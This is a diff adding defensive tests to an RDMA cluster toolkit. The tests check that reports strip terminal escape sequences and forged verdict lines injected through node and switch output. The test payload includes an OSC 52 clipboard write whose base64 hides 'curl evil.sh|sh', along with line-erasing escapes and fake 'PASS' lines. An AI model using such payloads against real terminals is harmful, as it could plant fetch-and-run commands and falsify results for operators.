@@ -21,6 +21,10 @@ import { pushCommandFor } from "../components/roce/push";
 import { planQos } from "../components/roce/qos";
 import { renderSwitchConfigs } from "../components/roce/render";
 import { spec as roceSpec } from "./fixtures/roce/helpers";
+import { formatHealth, gradeHealthDir } from "../components/health/report";
+import { cap, stack } from "./fixtures/health/stacks";
+import { runNcclReport } from "../components/validate/cli";
+import { fabricDrift, formatDriftReport } from "../components/roce/drift";
 
 const RECAP = (h: string, failed = 0) => `${h} : ok=5    changed=0    unreachable=0    failed=${failed}    skipped=0    rescued=0    ignored=0`;
 
@@ -246,4 +250,48 @@ test("a node's terminal escapes never reach the operator: progress, log and summ
         assert.doesNotMatch(text, control, `${what} holds a control character`);
     }
     fs.rmSync(r.dir, { recursive: true, force: true });
+});
+
+// Found by the trust review (w9): the reports printed a node's or a switch's own text as it came (a capture's evidence
+// line, a preflight `seen`, an ssh error), so an escape sequence reached the operator's terminal and a newline made a
+// line of its own. OSC 52 writes the clipboard; "ESC [1A ESC [2K" goes up a line and erases it (ECMA-48 CUU, EL).
+const ESCAPES = "\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007\u001b[1A\u001b[2K\u009b2J";
+// eslint-disable-next-line no-control-regex
+const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
+
+test("rdmakit health prints a capture's escapes as blanks: a node's evidence line cannot move the cursor or write the clipboard", () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "rdmakit-trust-health-"));
+    fs.mkdirSync(path.join(dir, "gpu-a"));
+    // the published Xid 79 capture, its lines carrying escapes after the driver's words, as a hostile node could write it
+    fs.writeFileSync(path.join(dir, "gpu-a", "dmesg.txt"), cap("dmesg.h100-525-xid79.txt").replace(/fallen off the bus/g, `fallen off the bus${ESCAPES}`));
+    const text = formatHealth(gradeHealthDir(dir, stack("examples/aws-p5.yaml")), "head");
+    assert.match(text, /dmesg\.txt: .*Xid \(PCI:0000:5d:00\): 79, .*GPU has fallen off the bus .*52;c;/, "the evidence line is still shown, as plain text");
+    assert.doesNotMatch(text, CONTROL);
+    fs.rmSync(dir, { recursive: true, force: true });
+});
+
+test("nccl-report prints a node's preflight text on its own line: no forged line, no escape", () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "rdmakit-trust-pre-"));
+    fs.mkdirSync(path.join(dir, "preflight"));
+    const forged = `8192${ESCAPES}\n  ok   preflight: 2 of 2 node(s) pass\nnccl-tests validation: PASS`;
+    fs.writeFileSync(path.join(dir, "preflight", "n1.json"), JSON.stringify({ host: "n1", checks: [{ check: "memlock", expected: "unlimited", ok: false, seen: forged }] }));
+    fs.writeFileSync(path.join(dir, "preflight", "n2.json"), JSON.stringify({ host: "n2", checks: [{ check: "memlock", expected: "unlimited", ok: true, seen: "unlimited" }] }));
+    const r = runNcclReport([], { preflight: path.join(dir, "preflight"), out: dir });
+    assert.equal(r.code, 1, r.stdout + r.stderr);
+    assert.match(r.stdout, /^nccl-tests validation: FAIL/);
+    assert.doesNotMatch(r.stdout, /^nccl-tests validation: PASS/m, "the node's text made a verdict line of its own");
+    assert.doesNotMatch(r.stdout, /^ {2}ok {3}preflight/m);
+    assert.match(r.stdout, /x memlock \[preflight n1\]: expected unlimited; seen 8192 .* ok {3}preflight: 2 of 2 node\(s\) pass nccl-tests validation: PASS$/m);
+    assert.doesNotMatch(r.stdout, CONTROL);
+    fs.rmSync(dir, { recursive: true, force: true });
+});
+
+test("rdmakit fabric check prints a switch's ssh error and a host's answer as plain text", () => {
+    const plan = planQos(roceSpec());
+    const sw = plan.switches[0];
+    const report = fabricDrift(plan, [{ switch: sw.name, error: `show running-config: exit 1: banner${ESCAPES}\nPASS` }], []);
+    const text = formatDriftReport(report);
+    assert.match(text, new RegExp(`^UNREADABLE ${sw.name}: show running-config: exit 1: banner .* PASS$`, "m"));
+    assert.doesNotMatch(text, CONTROL);
+    assert.doesNotMatch(text, /^PASS$/m);
 });
